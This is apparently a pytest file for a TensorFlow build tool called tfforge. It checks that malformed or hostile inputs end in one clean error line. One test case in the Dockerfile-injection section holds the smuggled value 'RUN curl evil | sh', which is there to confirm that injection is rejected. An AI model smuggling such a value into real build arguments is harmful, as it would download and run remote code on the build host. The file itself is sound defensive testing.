"""Issue 14, class 1: hostile input meets one input layer (tfforge.files, tfforge.paths,
tfforge.settings) and ends as one `error:` line with exit 2: no traceback, no hang, nothing
half-written."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import FIXTURES, ROOT, invoke
from faults import invoke_disk_full
from invoke.exceptions import Exit

from tfforge import files
from tfforge.commands import runner as cli
from tfforge.errors import ConfigError

CPUINFO = FIXTURES / "cpuinfo" / "haswell-i7-4770.cpuinfo"


def one_line(fn, *args, code: int = 2, **kwargs) -> str:
    """The error line cli.run prints for fn(*args), asserting its exit code."""
    with pytest.raises(Exit) as info:
        cli.run(fn, *args, **kwargs)
    message = str(info.value.message)
    assert info.value.code == code, message
    assert message.startswith("error: ") and "\n" not in message, message
    return message


def cli_error(proc: subprocess.CompletedProcess, *needles: str) -> str:
    assert proc.returncode == 2, (proc.returncode, proc.stderr[-2000:])
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    last = proc.stderr.strip().splitlines()[-1]
    assert last.startswith("error: "), proc.stderr
    for n in needles:
        assert n in last, last
    return last


def task(name: str):
    """Task `name` as the command line runs it, with flags as keywords."""
    return lambda **given: cli.run_task(name, given)


render, build = task("render"), task("build")


def detect_json(**kw):
    return cli.run_task("detect", {"json": True, "no_tf": True, "cpuinfo": str(CPUINFO), **kw})


# ---- regular files only ---------------------------------------------------------------------
def test_fifo_inputs_are_refused_not_waited_on(tmp_path):
    fifo = tmp_path / "host.json"
    os.mkfifo(fifo)
    for args in (("detect", "--cpuinfo", str(fifo), "--no-tf"), ("match", str(fifo))):
        cli_error(invoke(*args, cwd=tmp_path, timeout=20), "not a regular file")
    project = tmp_path / "proj"
    project.mkdir()
    os.mkfifo(project / "tfforge.toml")
    cli_error(
        invoke("detect", "--cpuinfo", str(CPUINFO), "--no-tf", cwd=project, timeout=20),
        "tfforge.toml",
        "not a regular file",
    )


def test_user_file_reader_refuses_folders_and_bad_text(tmp_path):
    with pytest.raises(ConfigError, match="not a regular file"):
        files.read_user_text(tmp_path)
    (tmp_path / "latin1.cpuinfo").write_bytes(b"model name: caf\xe9\n")
    with pytest.raises(ConfigError, match="not UTF-8"):
        files.read_user_text(tmp_path / "latin1.cpuinfo")
    (tmp_path / "big").write_bytes(b"x" * 2048)
    with pytest.raises(ConfigError, match="more than"):
        files.read_user_bytes(tmp_path / "big", limit=1024)


# ---- snapshots with wrong types ---------------------------------------------------------------
@pytest.mark.parametrize(
    "doc, needle",
    [
        ({"arch": ["x"]}, '"arch"'),
        ({"name": {"a": 1}}, '"name"'),
        ({"features": "avx"}, '"features"'),
        ({"physical_cores": "many"}, '"physical_cores"'),
        ({"logical_cpus": True}, '"logical_cpus"'),
    ],
)
def test_snapshot_fields_of_the_wrong_type(tmp_path, doc, needle):
    path = tmp_path / "h.json"
    path.write_text(json.dumps({"schema": "tfforge-host/1", "flags": ["sse", "sse2"], **doc}))
    assert needle in one_line(detect_json, cpuinfo=str(path))


def test_deeply_nested_snapshot(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text('{"a":' + "[" * 200_000 + "]" * 200_000 + "}")
    assert "nested too deeply" in one_line(detect_json, cpuinfo=str(path))


# ---- versions, numbers, where a bad value came from ------------------------------------------
@pytest.mark.parametrize("value", ["abc", "", "\u0661\u0662", "12.2\n.0"])
def test_gcc_version_is_ascii_digits(value):
    message = one_line(detect_json, gcc_version=value)
    assert "--gcc-version" in message


def test_errors_name_the_environment_variable_or_toml_key(tmp_path, monkeypatch):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("TFFORGE_MKL", "maybe")
    assert "TFFORGE_MKL" in one_line(render, target="haswell")
    monkeypatch.delenv("TFFORGE_MKL")
    monkeypatch.setenv("TFFORGE_MATCH_GCC_VERSION", "abc")
    assert "TFFORGE_MATCH_GCC_VERSION" in one_line(detect_json)
    monkeypatch.delenv("TFFORGE_MATCH_GCC_VERSION")
    monkeypatch.setenv("TFFORGE_BUILD_GCC_VERSION", "abc")
    assert "TFFORGE_BUILD_GCC_VERSION" in one_line(render, target="haswell")
    monkeypatch.delenv("TFFORGE_BUILD_GCC_VERSION")
    (tmp_path / "tfforge.toml").write_text('[tfforge]\nbase_image = "UPPER/case"\n')
    assert "tfforge.toml key 'base_image'" in one_line(render, target="haswell")
    (tmp_path / "tfforge.toml").write_text("[tfforge]\nbuild_timeout = true\n")
    assert "'build_timeout'" in one_line(build, target="haswell", dry_run=True)
    (tmp_path / "tfforge.toml").write_text("[tfforge]\nserve_port = 70000\n")
    assert "tfforge.toml key 'serve_port'" in one_line(task("serve"))
    (tmp_path / "tfforge.toml").write_text("[tfforge]\npublish_timeout = 0\n")
    assert "tfforge.toml key 'publish_timeout'" in one_line(
        task("publish"), wheels="x.whl", repository="http://127.0.0.1:1/"
    )
    (tmp_path / "tfforge.toml").write_text("[tfforge]\nbuild_timeout = -5\n")
    assert "'build_timeout'" in one_line(build, target="haswell", dry_run=True)
    assert not (tmp_path / "builds").exists()


@pytest.mark.parametrize("timeout", ["nan", "1e400", "-inf", "0"])
def test_build_timeout_must_be_finite_and_positive(tmp_path, monkeypatch, timeout):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    assert "--timeout" in one_line(build, target="haswell", dry_run=True, timeout=timeout)
    assert not (tmp_path / "builds").exists()


# ---- Dockerfile injection and image references -------------------------------------------------
@pytest.mark.parametrize(
    "options, needle",
    [
        ({"bazel_arg": ["--jobs=4\n"]}, "--bazel-arg"),
        ({"bazel_arg": ["--x\nRUN curl evil | sh"]}, "--bazel-arg"),
        ({"base_image": "UPPER/case"}, "--base-image"),
        ({"remote_cache": "http://cache.example.com/a\nb"}, "--remote-cache"),
        ({"gcc_version": "\u0661\u0662"}, "--gcc-version"),
    ],
)
def test_values_reaching_the_dockerfile_must_match_whole(tmp_path, monkeypatch, options, needle):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    assert needle in one_line(render, target="haswell", **options)
    assert not (tmp_path / "builds").exists()


def test_registry_hosts_may_be_uppercase_repositories_not(tmp_path, monkeypatch):
    from tfforge.build import inputs

    assert inputs.check_image_ref("Registry.Example.com:5000/team/img:1") is False
    assert inputs.check_image_ref("localhost/img") is False
    with pytest.raises(ConfigError):
        inputs.check_image_ref("Team/img")


def test_source_dir_with_an_undecodable_file_name(tmp_path, monkeypatch):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    src = tmp_path / "src"
    src.mkdir()
    (src / "ok.py").write_text("x = 1\n")
    os.close(os.open(os.path.join(os.fsencode(src), b"caf\xe9.py"), os.O_CREAT | os.O_WRONLY))
    message = one_line(render, target="haswell", source_dir=str(src))
    assert "not UTF-8" in message and "caf" in message
    assert not (tmp_path / "builds").exists()


# ---- places that must be folders, places written to --------------------------------------------
def test_save_onto_a_folder_under_a_file_or_unwritable(tmp_path):
    (tmp_path / "d.json").mkdir()
    assert "is a folder" in one_line(detect_json, save=str(tmp_path / "d.json"))
    (tmp_path / "f").write_text("")
    assert "f" in one_line(detect_json, save=str(tmp_path / "f" / "h.json"))
    # unwritable even for root: /proc takes no new files
    assert "/proc/tfforge-test" in one_line(detect_json, save="/proc/tfforge-test/h.json")
    assert "/proc/h.json" in one_line(detect_json, save="/proc/h.json")
    assert [p.name for p in tmp_path.rglob(".*.tmp")] == []


def test_a_build_folder_that_is_a_file_or_link(tmp_path, monkeypatch):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    build_id = render(target="haswell", json=True)["id"]
    final = tmp_path / "builds" / build_id
    shutil.rmtree(final)
    final.write_text("mine\n")
    assert "is a file or link" in one_line(render, target="haswell")
    assert final.read_text() == "mine\n"
    final.unlink()
    final.symlink_to(tmp_path / "nowhere")
    assert "is a file or link" in one_line(render, target="haswell")
    assert not (tmp_path / "nowhere").exists()


@pytest.mark.parametrize(
    "what", ["builds-file", "builds-link", "root-file", "root-link", "cache-file", "cache-link"]
)
def test_project_and_cache_places_that_are_not_folders(tmp_path, monkeypatch, what):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    monkeypatch.setenv("TFFORGE_CACHE", str(tmp_path / "cache"))
    place, kind = what.split("-")
    target = {
        "builds": tmp_path / "builds",
        "root": tmp_path / "root",
        "cache": tmp_path / "cache",
    }[place]
    if kind == "file":
        target.write_text("")
    else:
        target.symlink_to(tmp_path / "nowhere")
    if place == "root":
        monkeypatch.setenv("TFFORGE_ROOT", str(target))
    from tfforge import paths

    with pytest.raises(ConfigError) as info:
        (paths.cache_dir("verify") if place == "cache" else paths.builds_dir())
    assert str(target) in str(info.value)
    if place != "cache":
        one_line(render, target="haswell")
    assert not (tmp_path / "nowhere").exists()


def _full_disk(limit: int, *args: str, cwd: Path) -> subprocess.CompletedProcess:
    return invoke_disk_full(limit, *args, cwd=cwd, env={"TFFORGE_ROOT": str(cwd)})


def test_full_disk_leaves_nothing_behind(tmp_path):
    proc = _full_disk(2000, "render", "--target", "haswell", cwd=tmp_path)
    cli_error(proc, "cannot be written")
    assert list((tmp_path / "builds").iterdir()) == []
    proc = _full_disk(
        100,
        "detect",
        "--cpuinfo",
        str(CPUINFO),
        "--no-tf",
        "--save",
        str(tmp_path / "h.json"),
        cwd=tmp_path,
    )
    cli_error(proc, "h.json", "cannot be written")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["builds"]


# ---- flags invoke mis-parses, exit codes, Ctrl-C ------------------------------------------------
def test_engine_image_that_is_a_flag():
    assert "--image" in one_line(task("engine"), image="--help")


def test_unusable_docker_client_is_refused_before_rendering(tmp_path, monkeypatch):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    monkeypatch.setenv("TFFORGE_DOCKER", str(tmp_path / "no-docker"))
    assert "docker client" in one_line(build, target="haswell")
    assert not (tmp_path / "builds").exists()


@pytest.mark.parametrize("url", ["http://127.0.0.1:abc/", "http://[::1/"])
def test_publish_repository_with_a_bad_port(tmp_path, url):
    assert "--repository" in one_line(
        task("publish"), wheels=str(tmp_path / "x.whl"), repository=url
    )


def test_ctrl_c_while_starting_exits_130(tmp_path):
    """SIGINT right after tasks.py installed the handler, while the heavy imports still run
    (python -X importtime reports each finished import on stderr as it happens)."""
    proc = subprocess.Popen(
        [
            sys.executable,
            "-X",
            "importtime",
            "-m",
            "invoke",
            "-r",
            str(ROOT),
            "match",
            str(CPUINFO),
        ],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    for line in proc.stderr:
        if line.rstrip().endswith("| tfforge.host.isa"):  # imported after the handler
            proc.send_signal(signal.SIGINT)
            break
    rest = proc.stderr.read()
    proc.wait(timeout=30)
    assert proc.returncode == 130, rest[-1500:]
    assert "Traceback" not in rest and rest.strip().endswith("error: interrupted"), rest[-1500:]


# ---- bench's output folder ---------------------------------------------------------------
def test_bench_out_onto_a_file_is_refused_before_running(tmp_path):
    from conftest import options_for

    from tfforge.commands import bench

    (tmp_path / "out").write_text("mine\n")
    with pytest.raises(ConfigError, match="--out .*is a file"):
        bench.bench_plan(options_for("bench", wheels="w.whl", out=str(tmp_path / "out")))
    assert (tmp_path / "out").read_text() == "mine\n"


def test_golden_file_that_is_a_fifo(tmp_path):
    from tfforge.runtime import g2p

    os.mkfifo(tmp_path / "golden.tsv")
    with pytest.raises(ConfigError, match="golden file: .*not a regular file"):
        g2p.read_golden(tmp_path / "golden.tsv")


@pytest.mark.parametrize(
    "kind, text, needle",
    [
        ("dir", "", "not a regular file"),
        ("file", "tfforge = 5\n", "must be a table"),
        ("file", "[tfforge]\ntf_version = 2.21\n", "tfforge.toml key 'tf_version'"),
        ("file", "[tfforge]\nbuild_timeout = nan\n", "tfforge.toml key 'build_timeout'"),
        ("file", "[tfforge]\nbuild_timeout = inf\n", "tfforge.toml key 'build_timeout'"),
        ("file", '[tfforge]\nmkl = "maybe"\n', "tfforge.toml key 'mkl'"),
        ("file", "[tfforge]\nverify_jobs = 1.5\n", "tfforge.toml key 'verify_jobs'"),
        ("file", "\xff", "not UTF-8"),
    ],
)
def test_tfforge_toml_that_is_unusable(tmp_path, monkeypatch, kind, text, needle):
    monkeypatch.setenv("TFFORGE_ROOT", str(tmp_path))
    if kind == "dir":
        (tmp_path / "tfforge.toml").mkdir()
    else:
        (tmp_path / "tfforge.toml").write_bytes(text.encode("latin-1"))
    assert needle in one_line(build, target="haswell", dry_run=True)
    assert not (tmp_path / "builds").exists()
